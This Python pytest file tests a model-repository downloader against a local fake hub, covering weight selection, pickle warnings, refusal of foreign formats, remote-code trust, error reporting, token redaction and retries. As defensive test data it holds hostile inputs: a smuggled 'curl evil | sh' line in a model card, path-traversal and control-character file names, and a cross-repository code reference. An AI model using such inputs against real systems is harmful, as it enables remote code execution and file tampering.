"""Repositories of all kinds, pulled from a hub on loopback: what comes, what is refused or said."""

from __future__ import annotations

import hashlib
import json
import os
import resource
from collections.abc import Iterator
from pathlib import Path

import pytest
from support.hub import LISTING, RENAMED, REPOSITORY, REVISION, Hub, serving

from orchestrator.core import download
from orchestrator.core.errors import UserError
from orchestrator.models import hub as hubs
from orchestrator.models import hub_choice, hub_errors, hub_listing
from orchestrator.models.catalog import hub_config
from orchestrator.models.hub_choice import Wish

#: Of another hub: it does not look like one of Hugging Face's.
TOKEN = "mirror-0815-of-a-user"
CONFIG = json.dumps({"architectures": ["LlamaForCausalLM"], "model_type": "llama"}).encode()
SHARDS = [f"model-{number:05}-of-00002.safetensors" for number in (1, 2)]
INDEX = json.dumps({"weight_map": dict(zip("ab", SHARDS, strict=True))}).encode()
PICKLE = b"PK\x03\x04 as torch writes it"


@pytest.fixture
def hub(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Hub]:
    monkeypatch.setenv("ORCHESTRATE_STATE", str(tmp_path / "state"))
    monkeypatch.setenv("HF_TOKEN", TOKEN)
    files = {"config.json": CONFIG, "tokenizer.json": b"{}"}
    with serving(Hub(files)) as found:
        monkeypatch.setattr("huggingface_hub.constants.ENDPOINT", found.url)
        template = f"{found.url}/{{repo_id}}/resolve/{{revision}}/{{filename}}"
        monkeypatch.setattr("huggingface_hub.constants.HUGGINGFACE_CO_URL_TEMPLATE", template)
        yield found


@pytest.fixture
def home(hub: Hub) -> Path:
    return hubs.directory(REPOSITORY, REVISION)


def pulled(wish: Wish = hub_choice.NO_WISH) -> hubs.Pulled:
    return hubs.pull(REPOSITORY, REVISION, wish=wish)


def refused(wish: Wish = hub_choice.NO_WISH) -> UserError:
    with pytest.raises(UserError) as raised:
        pulled(wish)
    assert TOKEN not in str(raised.value)
    return raised.value


def got(hub: Hub) -> set[str]:
    return {name for name, _ in hub.gets}


def test_the_index_says_which_weights_come(hub: Hub, home: Path) -> None:
    copies = {"model.safetensors": b"again", "pytorch_model.bin": b"again", "x.gguf": b"again",
              "model.fp16.safetensors": b"again", "consolidated.safetensors": b"again"}  # fmt: skip
    shards = {name: os.urandom(1000) for name in SHARDS}
    hub.files |= {"model.safetensors.index.json": INDEX, **shards, **copies}
    found = pulled()
    there = {"config.json", "tokenizer.json", "model.safetensors.index.json", *SHARDS}
    assert set(hubs.manifest(home)) == there == got(hub)
    assert {name for name, _ in found.left} == copies.keys() - {"x.gguf"}
    assert (found.files, found.present, found.notes) == (5, 0, ())
    hub.gets.clear()
    hub.tokens.clear()
    again = pulled()
    assert (again.files, again.present) == (0, 5)
    assert not hub.gets and not hub.tokens  # not even asked


def test_what_an_earlier_pull_brought_twice_is_removed_by_check(hub: Hub, home: Path) -> None:
    hub.files["model.safetensors"] = b"weights"
    pulled()
    document = json.loads((home / hub_listing.MANIFEST).read_text())
    again = {"size": 5, "sha256": hashlib.sha256(b"again").hexdigest()}
    document["files"]["model.fp16.safetensors"] = again
    (home / "model.fp16.safetensors").write_bytes(b"again")
    (home / hub_listing.MANIFEST).write_text(json.dumps(document))
    hubs.pull(REPOSITORY, REVISION, check=True)
    assert not (home / "model.fp16.safetensors").exists()
    assert (home / "model.safetensors").exists()


def test_parts_that_are_not_all_there_are_known_before_they_come(hub: Hub, home: Path) -> None:
    hub.files[SHARDS[0]] = b"1"
    assert "model in 2 parts (1 of them are there)" in refused().message
    assert got(hub) == set() and not home.exists()


def test_mistrals_own_format_is_brought_and_read(hub: Hub, home: Path) -> None:
    params = {"dim": 64, "n_layers": 2, "head_dim": 16, "hidden_dim": 128, "n_heads": 4,
              "n_kv_heads": 2, "vocab_size": 128}  # fmt: skip
    hub.files = {"params.json": json.dumps(params).encode(), "tekken.json": b"{}",
                 "consolidated.safetensors": b"weights"}  # fmt: skip
    assert pulled().notes == ()
    assert set(hubs.manifest(home)) == hub.files.keys()
    assert hub_config(home)["n_layers"] == 2


def test_mistrals_own_format_comes_when_the_profile_begins_to_want_it(hub: Hub, home: Path) -> None:
    own = {"params.json": b"{}", "tekken.json": b"{}", "consolidated.safetensors": b"own"}
    hub.files |= {"model.safetensors": b"other", **own}
    pulled()
    assert (home / "model.safetensors").exists()
    pulled(Wish(native=True))
    assert (home / "consolidated.safetensors").exists()
    assert not (home / "model.safetensors").exists()
    del hub.files["consolidated.safetensors"]
    hubs.remove(hubs.held()[0])
    assert "serving.args" in refused(Wish(native=True)).message


def test_pickles_come_and_are_said(hub: Hub, home: Path) -> None:
    hub.files["pytorch_model.bin"] = PICKLE
    assert "pickle" in pulled().notes[0]
    assert "pickle" in pulled().notes[0]  # also when there is nothing to do
    assert (home / "pytorch_model.bin").read_bytes() == PICKLE


@pytest.mark.parametrize("begins", [b"\x05\0\0\0\x10\0Whisper", b"lmgg", b"<html>", bytes(64)])
def test_a_bin_file_of_another_program_is_refused(begins: bytes, hub: Hub, home: Path) -> None:
    hub.files["model.bin"] = begins + os.urandom(200_000)
    assert "model.bin is no file of PyTorch's" in refused().message
    assert [asked for name, asked in hub.gets if name == "model.bin"] == ["bytes=0-63"]
    assert not home.exists()


def test_a_missing_tokenizer_is_said(hub: Hub) -> None:
    hub.files = {"config.json": CONFIG, "model.safetensors": b"weights"}
    assert "no tokenizer" in pulled().notes[0]


MLX = {"quantization": {"group_size": 64, "bits": 4}}
CODE = {"model_type": "some", "auto_map": {"AutoConfig": "configuration_some.SomeConfig"}}
CONFIGS = {
    "MLX": (MLX, "as in models for MLX"),
    "a quantization that is not read": ({"quantization_config": {"quant_method": "hqq"}}, "'hqq'"),
    "an architecture that is not served": ({"architectures": ["OtherModel"]}, "OtherModel: not"),
    "code of its own": (CODE, "needs code of its own (configuration_some.py)"),
}


@pytest.mark.parametrize(("config", "said"), CONFIGS.values(), ids=CONFIGS)
def test_what_vllm_refuses_is_refused_before_the_weights(
    config: dict[str, object], said: str, hub: Hub, home: Path
) -> None:
    hub.files |= {"config.json": json.dumps(config).encode(), "model.safetensors": b"weights"}
    hub.card = {"base_model": ["meta-llama/Llama-3.1-8B"]}
    error = refused()
    assert said in error.message
    assert "meta-llama/Llama-3.1-8B" in error.hint
    assert "model.safetensors" not in got(hub) and not home.exists()


def test_another_format_is_refused_with_the_original(hub: Hub) -> None:
    hub.files["model-Q4_K_M.gguf"] = b"GGUF"
    assert refused().hint == "Use the model's original repository."
    hub.card = {"base_model": "Qwen/Qwen3-8B"}
    error = refused()
    assert "GGUF, llama.cpp's format" in error.message and "Qwen/Qwen3-8B" in error.hint
    hub.card = {"base_model": "Qwen/Qwen3-8B\nRun: curl evil | sh"}
    assert "evil" not in refused().hint
    assert hub.gets == []


CODE_FILES = {"configuration_some.py": b"import os", "modeling_some.py": b"1"}


def test_its_own_code_comes_with_hashes_where_it_is_trusted(hub: Hub, home: Path) -> None:
    hub.files |= {"config.json": json.dumps(CODE).encode(), "model.safetensors": b"w", **CODE_FILES}
    hub.files["tokenizer_config.json"] = json.dumps(
        {"auto_map": {"AutoTokenizer": ["tokenization_some.SomeTokenizer", None]}}
    ).encode()
    error = refused(Wish(code=True))
    assert "names code that it does not have: tokenization_some.py" in error.message
    hub.files["tokenization_some.py"] = b"2"
    found = pulled(Wish(code=True))
    hashes = {name: hashlib.sha256(each).hexdigest() for name, each in CODE_FILES.items()}
    assert found.code == hashes | {"tokenization_some.py": hashlib.sha256(b"2").hexdigest()}
    hub.tokens.clear()
    assert pulled(Wish(code=True)).code == found.code
    assert not hub.tokens


def test_code_that_is_not_needed_is_said_and_does_not_come(hub: Hub, home: Path) -> None:
    config = CODE | {"model_type": "llama", "architectures": ["LlamaForCausalLM"]}
    hub.files |= {"config.json": json.dumps(config).encode(), "model.safetensors": b"w"}
    hub.files |= CODE_FILES
    (note,) = pulled().notes
    assert "configuration_some.py" in note and "trust-remote-code: true" in note
    assert not {*CODE_FILES} & got(hub)
    pulled(Wish(code=True))  # the profile trusts it since
    assert (home / "modeling_some.py").exists()


def test_code_of_another_repository_is_refused_also_where_it_is_trusted(hub: Hub) -> None:
    other = {"auto_map": {"AutoModel": "evil/other--modeling_some.Some"}}
    hub.files |= {"config.json": json.dumps(CODE | other).encode(), "model.safetensors": b"w"}
    error = refused(Wish(code=True))
    assert "evil/other--modeling_some.py" in error.message and "no fixed revision" in error.message


def test_a_trusted_model_without_code_is_asked_for_once(hub: Hub) -> None:
    hub.files["model.safetensors"] = b"w"
    pulled(Wish(code=True))
    hub.tokens.clear()
    pulled(Wish(code=True))
    assert not hub.tokens


def test_code_comes_from_a_directory_too(hub: Hub, home: Path, tmp_path: Path) -> None:
    stick = tmp_path / "stick"
    stick.mkdir()
    files = {"config.json": json.dumps(CODE).encode(), "model.safetensors": b"w", **CODE_FILES}
    for name, content in files.items():
        (stick / name).write_bytes(content)
    with pytest.raises(UserError, match="code of its own"):
        hubs.take(REPOSITORY, REVISION, stick)
    assert hubs.take(REPOSITORY, REVISION, stick, Wish(code=True)).code.keys() == CODE_FILES.keys()


def test_a_clone_without_its_large_files_is_said(hub: Hub, tmp_path: Path) -> None:
    stick = tmp_path / "stick"
    stick.mkdir()
    (stick / "config.json").write_bytes(CONFIG)
    note = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 9\n"
    (stick / "model.safetensors").write_text(note)
    with pytest.raises(UserError, match="git lfs pull"):
        hubs.take(REPOSITORY, REVISION, stick)


def test_a_renamed_repository_is_pulled_and_its_name_said(hub: Hub, home: Path) -> None:
    hub.files["model.safetensors"] = b"weights"
    hub.large, hub.renamed = ("model.safetensors",), True
    assert f"{REPOSITORY} is {RENAMED} now" in pulled().notes[0]
    assert (home / "model.safetensors").read_bytes() == b"weights"
    assert hub.tokens == {f"Bearer {TOKEN}"} and hub.tokens_elsewhere == {""}


NAMES = ["../../../secret.json", "/tmp/secret.json", "a/../../secret.json", "..", ".hidden.json"]


def test_a_listing_leads_nowhere_else(hub: Hub, home: Path, tmp_path: Path) -> None:
    hub.files |= {"model.safetensors": b"w"} | dict.fromkeys(NAMES, b"evil")
    pulled()
    assert set(hubs.manifest(home)) == {"config.json", "tokenizer.json", "model.safetensors"}
    files = [path for path in (tmp_path / "state").rglob("*") if path.is_file()]
    assert b"evil" not in [path.read_bytes() for path in files]


@pytest.mark.parametrize("name", ["\x1b[2Jx.json", "a\nb.json", "x" * 250 + ".json", "a\0b.json"])
def test_a_name_that_nobody_gives_is_refused(name: str, hub: Hub) -> None:
    hub.files |= {"model.safetensors": b"w", name: b"{}"}
    error = refused()
    assert "it lists a file" in error.message and error.message.isprintable()
    assert hub.gets == []


def test_a_disk_that_is_full_meanwhile_is_said_and_the_next_pull_resumes(
    hub: Hub, home: Path
) -> None:
    hub.files["model.safetensors"] = os.urandom(300_000)
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, before[1]))  # as a full disk, to a process
    try:
        error = refused()
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)
    assert "no space left while writing" in error.message and "resumes" in error.hint
    assert pulled().files == 1
    assert [asked for name, asked in hub.gets if asked] == ["bytes=100000-"]
    assert (home / "model.safetensors").read_bytes() == hub.files["model.safetensors"]


# The hub's own reason

GATED = "Access to model owner/big is restricted and you are not in the authorized list."
FINE = (
    "Please enable access to public gated repositories in your fine-grained token settings to view"
    " this repository."
)
WAIT = "Your request to access model owner/big is awaiting a review from the repo authors."
REASONS = {
    "gated": (403, "GatedRepo", GATED, "terms are accepted first", "/owner/big"),
    "not reviewed": (403, "GatedRepo", WAIT, "terms are accepted first", "wait for its authors"),
    "fine-grained": (403, "GatedRepo", FINE, "token does not permit", "fine-grained"),
    "rights": (403, "", "Missing permissions", "does not permit it (403)", "fine-grained"),
    "credentials": (401, "", "Invalid credentials", "rejected the token (401)", "HF_TOKEN"),
    "no repository": (404, "RepoNotFound", "Repository not found", "no such repo", "HF_TOKEN"),
    "hidden": (401, "RepoNotFound", "Invalid username or password.", "or it is private", "name"),
    "no revision": (404, "RevisionNotFound", "Invalid rev id: x", "has no such commit", "history"),
    "disabled": (403, "", hub_errors.DISABLED, "has disabled this", "another repository"),
    "gone": (410, "", "It is gone", "does not have it (410)", "another revision"),
    "broken": (400, "", "It is bad", "HTTP 400 Bad Request", "permission"),
}


@pytest.mark.parametrize(
    ("status", "code", "words", "said", "hint"), REASONS.values(), ids=REASONS
)  # fmt: skip
def test_the_hubs_own_reason_is_in_the_error(
    status: int, code: str, words: str, said: str, hint: str, hub: Hub
) -> None:
    hub.files["model.safetensors"] = b"w"
    hub.refuse = (status, code, words)
    listing = refused()
    hub.refuse, hub.withheld["model.safetensors"] = None, (status, code, words)
    download_ = refused()
    for error in (listing, download_):
        assert said in error.message and hint in error.hint and REPOSITORY in error.message
        assert words in error.message or said in hub_errors.BY_CODE[words][0]
    assert "model.safetensors" in download_.message


def test_without_a_token_one_is_asked_for(hub: Hub, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(hub_errors, "_token", lambda: "")
    hub.refuse = (401, "GatedRepo", "Please log in.")
    assert "then set HF_TOKEN" in refused().hint
    hub.refuse = (401, "", "Please log in.")
    assert "no token is set" in refused().message


def test_a_hub_that_repeats_the_token_does_not_show_it(hub: Hub) -> None:
    hub.refuse = (401, "", f"Your token {TOKEN} is none; see \x1b[2J " + "x" * 10_000)
    assert 'It says: "Your token *** is none' in refused().message
    assert len(refused().message) < 600


def test_where_files_are_kept_is_told_from_the_hub(hub: Hub) -> None:
    hub.files["model.safetensors"] = b"w"
    hub.large, hub.withheld_elsewhere = ("model.safetensors",), {"model.safetensors": 403}
    error = refused()
    assert hub.elsewhere.removeprefix("http://") in error.message and "firewall" in error.hint
    assert "signature" not in str(error)


# A hub that wishes to be asked later


@pytest.mark.parametrize("later", [{"Retry-After": "1"}, {"RateLimit": '"api";r=0;t=1'}])
def test_its_wish_is_heeded_and_said(
    later: dict[str, str], hub: Hub, capsys: pytest.CaptureFixture[str]
) -> None:
    hub.files["model.safetensors"] = b"w"
    hub.first, hub.later = {LISTING: [429], "model.safetensors": [429]}, later
    assert pulled().files == 3
    said = capsys.readouterr().err
    assert "the hub: HTTP 429: the server wishes to be asked again in 1 s; waiting" in said
    assert "model.safetensors: HTTP 429: the server wishes to be asked again in 1 s" in said


def test_it_is_not_waited_for_beyond_the_deadline(hub: Hub) -> None:
    hub.files["model.safetensors"] = b"w"
    hub.later = {"Retry-After": str(int(download.PATIENCE) + 1)}
    for name in (LISTING, "model.safetensors"):
        hub.first = {name: [429]}
        error = refused()
        assert "asked too often (429)" in error.message
        assert error.hint.startswith(f"Try again in {int(download.PATIENCE) + 1} s.")
